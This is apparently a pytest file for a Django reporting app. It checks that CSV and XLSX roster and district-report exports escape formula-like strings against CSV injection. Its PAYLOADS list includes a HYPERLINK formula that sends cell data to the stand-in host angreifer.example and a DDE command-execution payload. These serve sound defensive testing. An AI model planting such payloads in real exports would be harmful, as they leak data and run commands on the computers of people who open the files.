"""Issue 12, finding 5: a roster line or a district name that starts like a formula stays text in
every CSV and XLSX export (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from districts.models import District, Municipality
from networks.models import NetworkMembership, Partner
from reports.rendering import SECTIONS, build_report, render_csv, render_xlsx
from sozialraum.exports import inert
from sozialraum.periods import period_of

# From the OWASP CSV injection page and the finding.
PAYLOADS = [
    '=HYPERLINK("http://angreifer.example/?x="&A1,"Klick")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "＝1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_inert_marks_what_would_be_a_formula(payload):
    assert inert(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Schulsozialarbeit", "-3,5 %", "+12", 42, -3.5, None, ""])
def test_inert_leaves_text_and_figures_alone(value):
    assert inert(value) == value


def test_roster_csv_and_xlsx_keep_formulas_as_text(client, coordinator, network, wiblingen):
    partner = Partner.objects.create(name="Angreifer e. V.", municipality=wiblingen.municipality)
    for position, payload in enumerate(PAYLOADS):
        NetworkMembership.objects.create(network=network, partner=partner, field_of_work=payload, position=position)
    client.force_login(coordinator)
    response = client.get(reverse("networks:roster_export", args=[network.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    workbook = load_workbook(
        io.BytesIO(client.get(reverse("networks:roster_export", args=[network.pk, "xlsx"])).content)
    )
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    # (a lone carriage return may come back as a line feed, depending on openpyxl's XML parser)
    read = [cell.value.replace("\r", "\n") for cell in cells]
    assert read == ["'" + payload.replace("\r", "\n") for payload in PAYLOADS]


def test_report_xlsx_and_csv_keep_district_names_as_text(reference_data):
    ulm = Municipality.objects.get(slug="ulm")
    District.objects.filter(slug="boefingen").update(name=PAYLOADS[0])
    report = build_report(ulm, ulm.districts.order_by("name"), period_of("year", 2025), list(SECTIONS))
    workbook = load_workbook(io.BytesIO(render_xlsx(report)))
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    names = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert names and all(name.startswith("'=") for name in names)
    table = next(table for section in report["sections"] for table in section.tables)
    text = render_csv(table, report["threshold"]).decode("utf-8-sig")
    assert "HYPERLINK" not in text or "'=HYPERLINK" in text
